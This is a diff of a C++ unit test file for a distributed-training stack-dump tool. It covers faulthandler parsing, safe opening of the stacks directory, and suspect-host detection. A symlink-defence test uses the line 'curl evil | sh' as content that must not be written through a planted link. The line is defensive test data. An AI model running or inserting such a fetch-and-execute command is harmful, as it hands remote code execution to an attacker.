@@ -28,8 +28,28 @@ const char* kFaulthandler =
 
 TEST(StackDump, TheMainThreadsInnermostPythonFrameNotAWorkerThreads) {
   EXPECT_EQ(innermost_python_frame(kFaulthandler), "all_reduce (distributed_c10d.py:1541)");
+  EXPECT_EQ(innermost_python_frame(kFaulthandler, "0x00007f0000000002"), "all_reduce (distributed_c10d.py:1541)");
   EXPECT_EQ(innermost_python_frame(""), "");
   EXPECT_EQ(innermost_python_frame("garbage\nFile \"x\n"), "");
+}
+
+// faulthandler lists at most 100 threads, newest first: with more, the main thread's
+// block is cut off, and the summary must not name a worker's frame instead.
+TEST(StackDump, ManyThreadsNeverNameAWorkersFrame) {
+  std::string dump;
+  for (int i = 0; i < 100; ++i)
+    dump += "Thread 0x00007f00000001" + std::to_string(10 + i) +
+            " (most recent call first):\n  File \"/usr/lib/python3.11/threading.py\", line 320 in wait\n"
+            "  File \"/usr/lib/python3.11/threading.py\", line 1002 in _bootstrap\n\n";
+  dump += "...\n";
+  EXPECT_EQ(innermost_python_frame(dump), "") << "no main thread in the dump: no Python frame";
+  EXPECT_EQ(innermost_python_frame(dump, "0x00007f0000000002"), "");
+  // The main thread named by the package, in a dump where it is not last.
+  const std::string two = "Current thread 0x00007f0000000002 (most recent call first):\n"
+                          "  File \"/home/a/train.py\", line 7 in step\n  File \"/home/a/train.py\", line 9 in run\n\n"
+                          "Thread 0x00007f0000000001 (most recent call first):\n"
+                          "  File \"/home/a/w.py\", line 3 in <module>\n";
+  EXPECT_EQ(innermost_python_frame(two, "0x00007f0000000002"), "step (train.py:7)");
 }
 
 TEST(StackDump, TheNativeFrameOfTheMainThreadFromEuStackOrGdb) {
@@ -72,6 +92,10 @@ TEST(StackDump, ARankWithoutThePythonPackageGetsANativeStackAndTheDumpReadsBack)
   p.ours = true;
   dump_options o;
   o.out_dir = t / "stacks";
+  std::string why;
+  o.dir_fd = open_stacks_dir(o.out_dir, false, &why);
+  ASSERT_GE(o.dir_fd, 0) << why;
+  o.id = {"7.0", "hang", 1000};
   o.python_dir = t.path();
   o.stack_signal = SIGURG;
   o.reason = "test";
@@ -87,11 +111,60 @@ TEST(StackDump, ARankWithoutThePythonPackageGetsANativeStackAndTheDumpReadsBack)
     EXPECT_TRUE(out[0].native) << text;
     EXPECT_NE(out[0].frame.find("pause"), std::string::npos) << out[0].frame;
   }
-  const auto back = read_dumps(t / "stacks");
+  const auto back = read_dumps(o.dir_fd, "7.0", "hang", 1000);
   ASSERT_EQ(back.size(), 1u);
   EXPECT_EQ(back[0].frame, out[0].frame);
   EXPECT_EQ(back[0].pid, child);
-  EXPECT_TRUE(read_dumps(t / "stacks", time(nullptr) + 60).empty()) << "an earlier dump is not this stall's";
+  EXPECT_TRUE(read_dumps(o.dir_fd, "7.0", "hang", 2000).empty()) << "an earlier dump is not this stall's";
+  EXPECT_TRUE(read_dumps(o.dir_fd, "8.0", "hang", 0).empty()) << "another run's dump";
+  EXPECT_TRUE(read_dumps(o.dir_fd, "7.0", "on-demand", 0).empty()) << "another kind of dump";
+  struct stat st {};
+  ASSERT_EQ(stat(out[0].file.c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 0777, 0600u) << "stacks are the user's alone outside a group log directory";
+  close(o.dir_fd);
+}
+
+// What another user (or a teammate in a group-writable log directory) can put where
+// the stacks go: nothing of it is written through, read, or waited on.
+TEST(StackDump, PlantedLinksFifosAndForeignDirectoriesAreRefused) {
+  trainctl_test::temp_dir t;
+  std::string why;
+  // A directory others can write: refused, with one line.
+  const std::string open_dir = t / "stacks-1";
+  ASSERT_EQ(mkdir(open_dir.c_str(), 0777), 0);
+  chmod(open_dir.c_str(), 0777);
+  EXPECT_EQ(open_stacks_dir(open_dir, false, &why), -1);
+  EXPECT_NE(why.find("can be written by others"), std::string::npos) << why;
+  // A symlink in place of the directory: refused.
+  ASSERT_EQ(symlink(t.path().c_str(), (t / "stacks-2").c_str()), 0);
+  EXPECT_EQ(open_stacks_dir(t / "stacks-2", false, &why), -1);
+  // In the user's own directory: a link to the user's file and a FIFO under the names
+  // the dump writes are refused at once, and the link's target is untouched.
+  const int fd = open_stacks_dir(t / "stacks-3", false, &why);
+  ASSERT_GE(fd, 0) << why;
+  const std::string target = t / "bashrc";
+  { std::ofstream(target) << "# mine\n"; }
+  ASSERT_EQ(symlink(target.c_str(), (t / "stacks-3/summary.txt").c_str()), 0);
+  ASSERT_EQ(mkfifo((t / "stacks-3/rank0.txt").c_str(), 0666), 0);
+  EXPECT_NE(append_in_dir(fd, "summary.txt", "curl evil | sh\n", 0600), "");
+  EXPECT_NE(append_in_dir(fd, "rank0.txt", "x\n", 0600), "") << "a FIFO would have blocked the open";
+  EXPECT_EQ(trainctl_test::read_file(target), "# mine\n");
+  EXPECT_TRUE(read_dumps(fd, "7.0", "hang", 0).empty());
+  close(fd);
+}
+
+TEST(StackDump, HostsThatAreNotOneNodeNameAreNeverSuspects) {
+  std::vector<rank_stack> s(5);
+  for (int r = 0; r < 5; ++r) {
+    s[r].rank = r;
+    s[r].host = "n1";
+    s[r].frame = "all_reduce";
+  }
+  s[4].host = "n[1-3]";
+  s[4].frame = "hang";
+  EXPECT_TRUE(suspect_hosts(s).empty());
+  s[4].host = "n2";
+  EXPECT_EQ(suspect_hosts(s), (std::set<std::string>{"n2"}));
 }
 
 // PyTorch's flight recorder cannot run here (no NCCL, no GPU): a thread reading the FIFO
@@ -118,8 +191,11 @@ TEST(StackDump, TheFlightRecorderPipeOfTheRankIsWrittenTo) {
   p.ours = true;
   dump_options o;
   o.out_dir = t / "stacks";
+  std::string why;
+  o.dir_fd = open_stacks_dir(o.out_dir, false, &why);
   o.reason = "test";
   const auto out = dump_stacks({p}, o);
+  close(o.dir_fd);
   kill(child, SIGKILL);
   waitpid(child, nullptr, 0);
   reader.join();
